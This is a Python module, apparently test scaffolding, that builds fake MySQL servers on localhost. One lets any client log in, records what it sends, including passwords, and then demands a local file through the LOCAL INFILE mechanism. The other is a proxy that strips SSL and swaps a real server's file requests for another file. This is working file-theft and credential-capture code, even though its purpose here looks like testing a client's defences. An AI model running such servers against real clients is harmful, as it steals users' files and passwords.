"""Servers that speak MySQL's protocol and want what is not theirs: files of the client's machine, passwords."""

from __future__ import annotations

import re
import socket
import threading
from collections.abc import Callable
from contextlib import suppress

from sqlalchemy.engine import make_url

# CONNECT_WITH_DB, LOCAL_FILES, PROTOCOL_41, SECURE_CONNECTION, PLUGIN_AUTH
CAPABILITIES = 0x0008 | 0x0080 | 0x0200 | 0x8000 | 0x80000
OK = b"\0\0\0\2\0\0\0"
LOCAL_INFILE = b"\xfb"

Wire = socket.socket


class Listener:
    """Serves each connection by a thread, and keeps all that clients sent."""

    silence: float | None = 10
    """Seconds that a client may say nothing; None: for ever."""

    def __init__(self) -> None:
        self._listener = socket.create_server(("127.0.0.1", 0))
        self.port = int(self._listener.getsockname()[1])
        self.heard = b""
        self.asked = 0
        threading.Thread(target=self._accept, daemon=True).start()

    def serve(self, client: Wire) -> None:
        raise NotImplementedError

    def close(self) -> None:
        with suppress(OSError):
            self._listener.shutdown(socket.SHUT_RDWR)
        self._listener.close()

    def _accept(self) -> None:
        while True:
            try:
                client, _ = self._listener.accept()
            except OSError:
                return
            threading.Thread(target=self._served, args=(client,), daemon=True).start()

    def _served(self, client: Wire) -> None:
        client.settimeout(self.silence)
        with suppress(OSError, EOFError), client:
            self.serve(client)


class Rogue(Listener):
    """Lets anybody in, and from the command number ``patience`` on answers with a demand for a file.

    ``at_login`` is what it says instead of its greeting (``greeting``) or instead of OK (anything else).
    """

    def __init__(self, file: str, patience: int, at_login: bytes = OK, *, greets: bool = True) -> None:
        self._ask = LOCAL_INFILE + file.encode()
        self._patience = patience
        self._at_login = at_login
        self._greets = greets
        super().__init__()

    @property
    def url(self) -> str:
        return f"mysql+pymysql://me:sesame@127.0.0.1:{self.port}/there"

    def serve(self, client: Wire) -> None:
        send(client, 0, greeting() if self._greets else self._ask)
        number, said = receive(client)
        self.heard += said
        send(client, number + 1, self._at_login)
        if self._at_login != OK:
            while True:
                self.heard += receive(client)[1]
        for count in range(1000):
            number, said = receive(client)
            self.heard += said
            if count < self._patience:
                send(client, number + 1, OK)
            else:
                self.asked += 1
                send(client, number + 1, self._ask)


class Hijacking(Listener):
    """A real server, but for its loads: another file is asked for, before and after the rows."""

    def __init__(self, url: str, file: str) -> None:
        self._url = make_url(url)
        self._ask = LOCAL_INFILE + file.encode()
        self._files: set[bytes] = set()
        super().__init__()

    @property
    def url(self) -> str:
        there = self._url.set(host="127.0.0.1", port=self.port).update_query_dict({"ssl_disabled": "true"})
        return there.render_as_string(hide_password=False)

    def serve(self, client: Wire) -> None:
        address = str(self._url.host), int(self._url.port or 0)
        with socket.create_connection(address) as server:
            server.settimeout(30)
            threading.Thread(target=self._up, args=(client, server), daemon=True).start()
            self._down(server, client)

    def _up(self, client: Wire, server: Wire) -> None:
        with suppress(OSError, EOFError):
            client.settimeout(30)
            while block := client.recv(1 << 16):
                self.heard += block
                self._files |= set(re.findall(rb"LOAD DATA LOCAL INFILE '([^']*)'", block))
                server.sendall(block)

    def _down(self, server: Wire, client: Wire) -> None:
        loading = False
        while True:
            number, said = receive(server)
            # A row may begin with this byte, too, if its first value is NULL.
            if said[:1] == LOCAL_INFILE and said[1:] in self._files:
                loading, said = True, self._ask
                self.asked += 1
            elif loading:
                loading, said = False, self._ask
                self.asked += 1
            send(client, number, said)


def greeting() -> bytes:
    low, high = CAPABILITIES & 0xFFFF, CAPABILITIES >> 16
    first, second = b"8 of salt", b"twelve bytes"
    return (
        b"\x0a8.4.0-rogue\0"
        + (7).to_bytes(4, "little")
        + first[:8]
        + b"\0"
        + low.to_bytes(2, "little")
        + b"\xff\2\0"
        + high.to_bytes(2, "little")
        + b"\x15"
        + b"\0" * 10
        + second
        + b"\0mysql_native_password\0"
    )


def send(wire: Wire, number: int, payload: bytes) -> None:
    wire.sendall(len(payload).to_bytes(3, "little") + bytes([number % 256]) + payload)


def receive(wire: Wire) -> tuple[int, bytes]:
    """A packet: its number and its content."""
    head = _exactly(wire.recv, 4)
    return head[3], _exactly(wire.recv, int.from_bytes(head[:3], "little"))


def _exactly(read: Callable[[int], bytes], size: int) -> bytes:
    found = b""
    while len(found) < size:
        if not (block := read(size - len(found))):
            raise EOFError
        found += block
    return found
